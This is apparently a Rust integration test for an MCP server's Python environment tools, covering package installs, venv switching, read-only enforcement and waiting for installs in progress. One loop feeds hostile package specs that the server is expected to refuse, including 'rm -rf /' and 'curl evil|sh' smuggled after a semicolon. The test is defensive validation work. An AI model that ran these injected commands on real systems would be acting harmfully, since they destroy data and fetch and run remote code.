//! The environment tools through a real MCP client: the managed default, an install from
//! PyPI, hostile specs refused, switching to a host venv (read-only in runs) and refusing
//! a broken one while the previous configuration stays.

use crate::mcp_support;

use mcp_support::{
    call, is_error, server_with_environments, structured, text, try_call, ProgressRecorder,
};
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::ServiceExt;
use serde_json::json;

const TENANT: &str = "t-mcp-env";

#[tokio::test]
async fn environments_configure_install_and_stay_read_only() {
    let data = std::env::temp_dir().join(format!("mcpx-data-{}", uuid::Uuid::new_v4().simple()));
    // Removed when the test ends, whether it passes or not.
    let _data_guard = crate::common::TempDirs(vec![data.clone()]);
    let server = server_with_environments(TENANT, &data).await;
    let recorder = ProgressRecorder::default();
    let client = recorder
        .clone()
        .serve(StreamableHttpClientTransport::from_uri(server.url("/mcp")))
        .await
        .unwrap();

    let r = call(&client, "get_environment_config", json!({})).await;
    let cfg = structured(&r);
    assert_eq!(cfg["type"], "default", "{cfg}");
    assert!(cfg["path"]
        .as_str()
        .unwrap()
        .starts_with(data.to_str().unwrap()));
    assert!(cfg["python_version"].as_str().unwrap().starts_with("3."));

    // Hostile specs: a protocol error naming the argument, nothing run.
    for bad in [
        "six; rm -rf /",
        "--index-url=http://127.0.0.1:9/",
        "x; curl evil|sh",
    ] {
        let e = try_call(
            &client,
            "install_dependencies",
            json!({"packages": ["numpy", bad]}),
        )
        .await
        .expect_err("refused");
        assert!(e.to_string().contains("packages[1]"), "{e}");
    }

    // A real install from PyPI (a small wheel the image does not have), then the package
    // imports in the next run.
    let r = call(
        &client,
        "install_dependencies",
        json!({"packages": ["iniconfig"]}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert!(text(&r).contains("iniconfig: "), "{}", text(&r));
    assert!(!text(&r).contains("already satisfied"), "{}", text(&r));
    let report = structured(&r);
    assert_eq!(report["environment"], "default", "{report}");
    assert_eq!(report["path"], cfg["path"], "{report}");
    assert_eq!(report["changed"], true, "{report}");
    assert_eq!(report["packages"][0]["status"], "installed", "{report}");
    assert!(report["dependencies"].is_array(), "{report}");
    // Progress names the two phases.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let messages = recorder.messages();
    for phase in ["fetching:", "installing:", "finished"] {
        assert!(
            messages.iter().any(|m| m.starts_with(phase)),
            "no `{phase}` notification in {messages:?}"
        );
    }
    let r = call(
        &client,
        "execute_code",
        json!({"code": "import iniconfig, six, sys\nprint(iniconfig.__file__)\nprint(sys.prefix)"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    // A package the environment already has is said to be there, not "installed".
    let r = call(
        &client,
        "install_dependencies",
        json!({"packages": ["six"]}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert!(
        text(&r).contains("six: already satisfied by 1."),
        "{}",
        text(&r)
    );
    assert!(
        text(&r).contains(cfg["path"].as_str().unwrap()),
        "{}",
        text(&r)
    );
    let r = call(
        &client,
        "check_installed_packages",
        json!({"packages": ["SIX", "numpy"]}),
    )
    .await;
    let pk = structured(&r);
    assert_eq!(pk["packages"][0]["installed"], true, "{pk}");
    assert_eq!(pk["packages"][1]["installed"], true, "{pk}");
    assert_eq!(pk["environment"], "default", "{pk}");
    assert_eq!(pk["path"], cfg["path"], "{pk}");

    // A failed install says why, and the environment stays usable.
    let r = call(
        &client,
        "install_dependencies",
        json!({"packages": ["surely-no-such-package-mcpx-0xdead"]}),
    )
    .await;
    assert!(is_error(&r), "{}", text(&r));
    assert!(text(&r).contains("install failed"), "{}", text(&r));
    let r = call(
        &client,
        "execute_code",
        json!({"code": "import six; print('still', six.__version__)"}),
    )
    .await;
    assert!(
        !is_error(&r) && text(&r).contains("still 1."),
        "{}",
        text(&r)
    );

    // Switch to a host venv with a package of its own: it imports, and is read-only.
    let venv = data.join("venv-a");
    let ok = std::process::Command::new("/usr/bin/python3")
        .args(["-m", "venv", "--without-pip"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(ok.success());
    let site = venv.join("lib/python3.11/site-packages/envpkg");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(site.join("__init__.py"), "__version__ = '7.7'\n").unwrap();
    let r = call(
        &client,
        "configure_environment",
        json!({"type": "venv", "venv_path": venv.display().to_string()}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(&client, "execute_code", json!({"code": "import envpkg\nprint(envpkg.__version__)\ntry:\n    open(envpkg.__file__, 'a')\nexcept OSError as e:\n    print('refused', e.errno in (13, 30))"})).await;
    assert!(text(&r).contains("--- stdout ---\n7.7\n"), "{}", text(&r));
    assert!(text(&r).contains("refused True"), "{}", text(&r));
    let r = call(
        &client,
        "check_installed_packages",
        json!({"packages": ["envpkg"]}),
    )
    .await;
    assert_eq!(structured(&r)["environment"], "venv", "{}", text(&r));
    assert_eq!(
        structured(&r)["path"],
        venv.canonicalize().unwrap().display().to_string()
    );

    // The venv has no pip (`--without-pip`): the image's pip installs into it.
    let r = call(
        &client,
        "install_dependencies",
        json!({"packages": ["six"]}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(
        &client,
        "execute_code",
        json!({"code": "import six, sys\nprint(six.__file__.startswith(sys.prefix))"}),
    )
    .await;
    assert!(text(&r).contains("--- stdout ---\nTrue\n"), "{}", text(&r));

    // A broken configuration is refused and the venv stays.
    let r = call(
        &client,
        "configure_environment",
        json!({"type": "venv", "venv_path": "/usr"}),
    )
    .await;
    assert!(is_error(&r));
    assert!(text(&r).contains("was not changed"), "{}", text(&r));
    let r = call(&client, "get_environment_config", json!({})).await;
    assert_eq!(structured(&r)["type"], "venv");
    let e = try_call(&client, "configure_environment", json!({"type": "pipenv"}))
        .await
        .expect_err("unknown type");
    assert!(e.to_string().contains("`type`"), "{e}");

    client.cancel().await.ok();
    server.finish().await;
    let _ = std::fs::remove_dir_all(&data);
}

/// Code never sees an environment halfway through an install: a cell of an open session
/// and a one-shot run, both sent while the install's second phase writes the environment,
/// wait for it and then import what it installed.
#[tokio::test]
async fn runs_and_cells_wait_for_an_install_in_progress() {
    let tenant = "t-mcp-env-wait";
    let data = std::env::temp_dir().join(format!("mcpx-data-{}", uuid::Uuid::new_v4().simple()));
    // Removed when the test ends, whether it passes or not.
    let _data_guard = crate::common::TempDirs(vec![data.clone()]);
    let server = server_with_environments(tenant, &data).await;
    let recorder = ProgressRecorder::default();
    let client = recorder
        .clone()
        .serve(StreamableHttpClientTransport::from_uri(server.url("/mcp")))
        .await
        .unwrap();
    // The session is open (and its interpreter started) before the install.
    let r = call(&client, "execute_python", json!({"code": "x = 1"})).await;
    assert!(!is_error(&r), "{}", text(&r));

    let peer = client.peer().clone();
    let install = tokio::spawn(async move {
        call(
            &peer,
            "install_dependencies",
            json!({"packages": ["tabulate"]}),
        )
        .await
    });
    // Phase 2 holds the environment from here until it is done.
    recorder
        .wait_for("installing:", std::time::Duration::from_secs(180))
        .await;
    let probe = "import importlib\nimportlib.invalidate_caches()\nimport tabulate\nprint('seen', tabulate.__version__)";
    let (cell, run) = tokio::join!(
        call(&client, "execute_python", json!({"code": probe})),
        call(&client, "execute_code", json!({"code": probe})),
    );
    let installed = install.await.unwrap();
    assert!(!is_error(&installed), "{}", text(&installed));
    for (what, r) in [("cell", cell), ("run", run)] {
        assert!(
            !is_error(&r) && text(&r).contains("seen 0."),
            "the {what} ran while the install wrote the environment: {}",
            text(&r)
        );
    }
    let _ = client.cancel().await;
    server.finish().await;
    let _ = std::fs::remove_dir_all(&data);
}
